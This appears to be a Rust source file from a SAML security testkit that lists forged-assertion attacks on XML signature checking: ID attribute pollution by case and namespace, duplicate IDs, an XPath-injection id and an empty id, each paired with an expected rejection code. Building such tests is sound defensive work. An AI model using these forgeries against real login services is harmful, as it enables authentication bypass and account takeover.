//! Ids: what a reference may be taken to name.

use super::stage::{FORGED_ID, Stage, cut_signature};
use super::{Attack, Posting};
use crate::error::TestkitError;
use crate::xml::{PROTOCOL, replace};

const POLLUTION: &str = "The Fragile Lock (Black Hat Europe 2025): attribute pollution";

pub(super) const ATTACKS: &[Attack] = &[
    Attack::forged(
        "id_in_protocol_namespace",
        "Writes the signed id on the forged Assertion as samlp:ID.",
        POLLUTION,
        "xml_ambiguous_id",
        |stage| {
            forged_with_ids(stage, |id| {
                format!(r#" x:ID="{id}" xmlns:x="{PROTOCOL}" ID="{FORGED_ID}""#)
            })
        },
    ),
    Attack::forged(
        "id_in_mixed_case",
        "Writes the signed id on the forged Assertion as Id.",
        POLLUTION,
        "xml_ambiguous_id",
        |stage| forged_with_ids(stage, |id| format!(r#" Id="{id}" ID="{FORGED_ID}""#)),
    ),
    Attack::forged(
        "id_in_lower_case",
        "Writes the signed id on the forged Assertion as id.",
        POLLUTION,
        "xml_ambiguous_id",
        |stage| forged_with_ids(stage, |id| format!(r#" id="{id}" ID="{FORGED_ID}""#)),
    ),
    Attack::forged(
        "id_in_odd_case",
        "Writes the signed id on the forged Assertion as iD.",
        POLLUTION,
        "xml_ambiguous_id",
        |stage| forged_with_ids(stage, |id| format!(r#" iD="{id}" ID="{FORGED_ID}""#)),
    ),
    Attack::forged(
        "xml_id",
        "Writes the signed id on the forged Assertion as xml:id.",
        POLLUTION,
        "xml_ambiguous_id",
        |stage| forged_with_ids(stage, |id| format!(r#" xml:id="{id}" ID="{FORGED_ID}""#)),
    ),
    Attack::forged(
        "id_twice_on_one_element",
        "Writes two ID attributes on the forged Assertion, the signed id first.",
        POLLUTION,
        "xml_duplicate_attribute",
        |stage| forged_with_ids(stage, |id| format!(r#" ID="{id}" ID="{FORGED_ID}""#)),
    ),
    Attack::forged(
        "attribute_twice_by_two_prefixes",
        "Writes one namespaced attribute twice, by two prefixes for one namespace.",
        POLLUTION,
        "xml_duplicate_attribute",
        |stage| {
            stage.beside(r#"<x a:y="1" b:y="2" xmlns:a="urn:example:a" xmlns:b="urn:example:a"/>"#)
        },
    ),
    Attack::forged(
        "id_of_the_assertion_on_the_response",
        "Gives the Response the id of the signed Assertion.",
        "duplicate ids: first or last match wins",
        "xml_duplicate_id",
        |stage| {
            let mut draft = stage.signed()?;
            draft.open = replace(&draft.open, &stage.ids().response, &stage.ids().assertion)?;
            Ok(draft.assemble().into())
        },
    ),
    Attack::forged(
        "id_of_the_assertion_on_the_signature",
        "Gives the Signature the id of the signed Assertion, as its Id.",
        "duplicate ids: first or last match wins",
        "xml_duplicate_id",
        |stage| {
            let signed = stage.signed()?.assertion;
            let with_id = format!(r#"<ds:Signature Id="{}" "#, stage.ids().assertion);
            Ok(stage.replaced(replace(&signed, "<ds:Signature ", &with_id)?))
        },
    ),
    Attack::forged(
        "id_with_quotes",
        "Uses an id that closes the string of an XPath expression.",
        "XPath injection in id look-ups",
        "xml_malformed_id",
        |stage| forged_with_ids(stage, |id| format!(r#" ID="{id}' or '1'='1""#)),
    ),
    Attack::forged(
        "empty_id",
        "Uses an empty id, so that an empty fragment may name it.",
        "ids that are no names",
        "xml_malformed_id",
        |stage| forged_with_ids(stage, |_| r#" ID="""#.to_owned()),
    ),
];

/// A forged Assertion with the genuine signature, and with other id attributes.
fn forged_with_ids(stage: &Stage<'_>, ids: fn(&str) -> String) -> Result<Posting, TestkitError> {
    let (_, signature) = cut_signature(&stage.signed()?.assertion)?;
    let forged = stage.forged().assertion;
    let written = ids(&stage.ids().assertion);
    let forged = replace(&forged, &format!(r#" ID="{FORGED_ID}""#), &written)?;
    Ok(stage.replaced(stage.after_issuer(&forged, &signature)?))
}
